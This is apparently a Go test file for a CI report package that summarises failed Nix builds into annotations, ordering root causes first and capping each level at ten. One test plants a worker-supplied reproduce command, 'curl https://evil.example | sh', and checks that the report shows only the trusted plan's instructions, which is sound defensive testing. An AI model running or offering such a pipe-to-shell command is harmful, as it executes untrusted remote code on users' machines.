package report

import (
	"fmt"
	"strings"
	"testing"
)

func TestAnnotationsAreTenOfALevel(t *testing.T) {
	t.Parallel()
	v := big(30, "", "boom")
	for i := range 12 {
		v.Notices = append(v.Notices, fmt.Sprint("notice ", i))
	}
	by := map[string][]Annotation{}
	for _, a := range v.Annotations() {
		by[a.Level] = append(by[a.Level], a)
	}
	if len(by["error"]) != 10 || len(by["notice"]) != 10 {
		t.Fatalf("%d errors, %d notices", len(by["error"]), len(by["notice"]))
	}
	// 30 root causes and 30 push errors
	if last := by["error"][9].Message; !strings.Contains(last, "51 more") {
		t.Errorf("the last one says %q", last)
	}
	if first := by["error"][0]; first.Title != "nixosConfigurations.host0000 failed" || !strings.Contains(first.Message, "boom") {
		t.Errorf("the first one says %+v", first)
	}
}

func TestRootCausesComeFirst(t *testing.T) {
	t.Parallel()
	p := planOf(pkg("a"), pkg("b"), pkg("c"), pkg("d"), unevaluated(host("old", ""), "error: x"), host("nas", ""), host("pi3", ""))
	results := resultsOf(p)
	fail(results[0], 0, drv("a"))
	fail(results[0], 1, drv("libfoo"), "boom")
	fail(results[0], 2, drv("libfoo"), "boom")
	fail(results[1], 0, drv("glibc"), "bang")
	results[0].Error = "push failed"
	v := Judge(p, planKey, results[:2], nil)
	var titles []string
	for _, a := range v.Annotations() {
		titles = append(titles, a.Level+": "+a.Title)
	}
	want := []string{
		"error: nixosConfigurations.nas failed",
		"error: 2 targets failed, since libfoo did",
		"error: packages.x86_64-linux.a failed",
		"error: nixosConfigurations.old can't be evaluated",
		"error: x86_64-linux 1/1",
		"error: 1 target without a result",
	}
	if got := strings.Join(titles, "\n"); got != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", got, strings.Join(want, "\n"))
	}
}

// A worker must not be able to tell people what to type.
func TestThePlanSaysHowToReproduce(t *testing.T) {
	t.Parallel()
	p := planOf(host("nas", ""))
	results := resultsOf(p)
	fail(results[0], 0, drv("glibc"))
	results[0].Targets[0].Reproduce = "curl https://evil.example | sh"
	v := Judge(p, planKey, results, nil)
	for _, text := range []string{v.Summary(SummaryOptions{}), v.Text(), v.Annotations()[0].Message} {
		if strings.Contains(text, "evil") || !strings.Contains(text, p.Targets[0].Reproduce) {
			t.Error(text)
		}
	}
	p.Targets[0].Reproduce = ""
	if text := Judge(p, planKey, results, nil).Text(); !strings.Contains(text, "evil") {
		t.Error("without a word of the plan, the worker's is left out")
	}
}
